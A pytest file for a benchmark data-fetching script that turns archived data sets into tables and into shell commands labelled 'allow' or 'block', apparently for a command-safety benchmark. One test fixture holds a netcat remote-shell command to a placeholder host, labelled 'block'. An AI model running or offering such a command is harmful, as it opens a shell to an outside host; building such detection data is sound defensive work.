"""benchmarks/fetch_data.py: archives laid out as their sources lay them out, and the comparison with measured rows."""

import importlib.util
import io
import json
import zipfile
from pathlib import Path

import pytest

SCRIPT = Path(__file__).parents[1] / "benchmarks" / "fetch_data.py"


@pytest.fixture(scope="module")
def script():
    spec = importlib.util.spec_from_file_location("fetch_data", SCRIPT)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def archive(**files):
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as written:
        for name, text in files.items():
            written.writestr(name, text)
    return zipfile.ZipFile(held)


def test_tables(script):
    """The class goes last, as the benchmarks expect it."""
    (row,) = script.letter(archive(**{"letter-recognition.data": "T," + ",".join("1234567812345678") + "\n"}))
    assert list(row)[-1] == "letter" and row["letter"] == "T" and row["x_box"] == "1" and len(row) == 17
    (row,) = script.magic(archive(**{"magic04.data": "1,2,3,4,5,6,7,8,9,10,g\n\n"}))
    assert row["class"] == "g" and row["Dist"] == "10"


def test_calls(script):
    """Duplicates and blank lines go; placeholders of manual pages are filled in; other shells are left out."""
    rows = list(
        script.slp(archive(**{"slp-x/data/nl2bash.cm": "ls\nls\n\n", "slp-x/data/malicious.cm": "nc -e sh h 1\n"}))
    )
    assert [(row["command"], row["label"]) for row in rows] == [("ls", "allow"), ("nc -e sh h 1", "block")]
    page = "# tar\n\n> Archives.\n\n- Make one:\n\n`tar cf {{path/to/x.tar}} {{file}}`\n"
    rows = list(script.tldr(archive(**{"tldr-main/pages/common/tar.md": page, "tldr-main/pages/osx/x.md": page})))
    assert rows == [{"command": "tar cf path/to/x.tar file", "label": "allow", "group": "pages/common/tar.md"}]
    pytest.importorskip("yaml")
    tests = [
        {"supported_platforms": ["linux"], "executor": {"name": shell, "command": f"echo {shell}\n"}}
        for shell in ("sh", "powershell")
    ]
    files = {"atomic-red-team-master/atomics/T1001.002/T1001.002.yaml": json.dumps({"atomic_tests": tests})}
    (row,) = script.atomic_red_team(archive(**files))
    assert row == {"command": "echo sh", "label": "block", "group": "T1001.002.yaml"}


@pytest.mark.parametrize("name", ["table.csv", "calls.jsonl"])
def test_written_and_compared(script, tmp_path, name):
    """The same numbers, written in another way, are the same rows; another row, or another order, is not."""
    rows = [{"command": "a\nb", "x": "22.820999999999998"}, {"command": "c", "x": "1"}]
    script.write(tmp_path / name, rows)
    back = script.read_back(tmp_path / name)
    source = script.Source(name, None, None, 2, script.digest([{**rows[0], "x": 22.821}, {**rows[1], "x": 1}]))
    assert script.compared(source, back) == "2 rows, those behind the figures"
    assert "expect other scores" in script.compared(source, back[::-1])
    assert "expect other scores" in script.compared(source, back[:1])


def test_the_rows_behind_the_figures(script):
    """Where the data sets are here, they are those that the script knows."""
    import os

    folder = os.environ.get("GRADPROOF_DATA")
    if not folder:
        pytest.skip("GRADPROOF_DATA is not set")
    for name, source in script.SOURCES.items():
        if (Path(folder) / source.file).exists():
            assert "those behind the figures" in script.compared(
                source, script.read_back(Path(folder) / source.file)
            ), name
